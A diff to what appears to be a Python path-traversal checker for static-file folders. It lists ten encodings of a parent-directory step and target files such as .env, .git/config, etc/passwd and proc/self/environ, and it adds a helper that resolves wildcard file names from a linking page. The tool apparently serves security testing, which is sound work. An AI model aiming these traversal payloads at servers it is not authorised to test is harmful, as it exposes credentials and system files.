@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import posixpath
+import re
 import secrets
 from collections.abc import Iterator
 from urllib.parse import quote
@@ -20,21 +21,23 @@ _USUAL = (".env", ".git/config", "secret.txt", "config.yaml", "settings.py", "ma
 _USUAL_ROOT = ("etc/passwd", "etc/hostname", "proc/self/environ")
 _UP = 8
 _WAYS = {
-    "dots": lambda steps: "../" * steps,
-    "encoded dots": lambda steps: "%2e%2e/" * steps,
-    "half encoded dots": lambda steps: ".%2e/" * steps,
-    "encoded slashes": lambda steps: "..%2f" * steps,
-    "all encoded": lambda steps: "%2e%2e%2f" * steps,
-    "encoded twice": lambda steps: "%252e%252e%252f" * steps,
-    "backslashes": lambda steps: "..\\" * steps,
-    "encoded backslashes": lambda steps: "..%5c" * steps,
-    "semicolons": lambda steps: "..;/" * steps,
-    "doubled dots": lambda steps: "....//" * steps,
+    "dots": "../",
+    "encoded dots": "%2e%2e/",
+    "half encoded dots": ".%2e/",
+    "encoded slashes": "..%2f",
+    "all encoded": "%2e%2e%2f",
+    "encoded twice": "%252e%252e%252f",
+    "backslashes": "..\\",
+    "encoded backslashes": "..%5c",
+    "semicolons": "..;/",
+    "doubled dots": "....//",
 }
+"""One step up, in each spelling."""
 
 
 def leave_the_folder(target: Target, static: StaticFiles) -> StaticFolder:
     """Ask for the file, for one that is not there, and for what is not in the folder in every spelling."""
+    static = static.model_copy(update={"file": _named(target, static)})
     folder = posixpath.dirname(static.file)
     nothing = f"{folder}/{secrets.token_hex(6)}{posixpath.splitext(static.file)[1]}"
     missing = [
@@ -50,6 +53,14 @@ def leave_the_folder(target: Target, static: StaticFiles) -> StaticFolder:
     return StaticFolder((control,), tuple(missing), tuple(climbed))
 
 
+def _named(target: Target, static: StaticFiles) -> str:
+    """Return the file's path, as the page that links to it has it where it changes."""
+    pattern = re.escape(static.file).replace(r"\*", r"[\w.-]+")
+    page = _get(target, "a page that links to it", static.page).body if "*" in static.file else ""
+    found = re.search(pattern, page)
+    return found[0] if found else static.file
+
+
 def _outside(static: StaticFiles, folder: str) -> Iterator[tuple[str, str, str]]:
     """Give how, the path, and where that is when somebody resolves it first."""
     base, name = posixpath.basename(folder), posixpath.basename(static.file)
@@ -62,7 +73,7 @@ def _outside(static: StaticFiles, folder: str) -> Iterator[tuple[str, str, str]]
         if not steps:
             yield "by its name", f"{folder}/{rest}", f"/{rest}"
         for how, up in _WAYS.items() if steps else ():
-            yield how, f"{folder}/{up(steps)}{rest}", place
+            yield how, f"{folder}/{up * steps}{rest}", place
         if steps == 1:
             yield "no slash before the dots", f"{folder}../{rest}", place
     for path in _USUAL_ROOT:
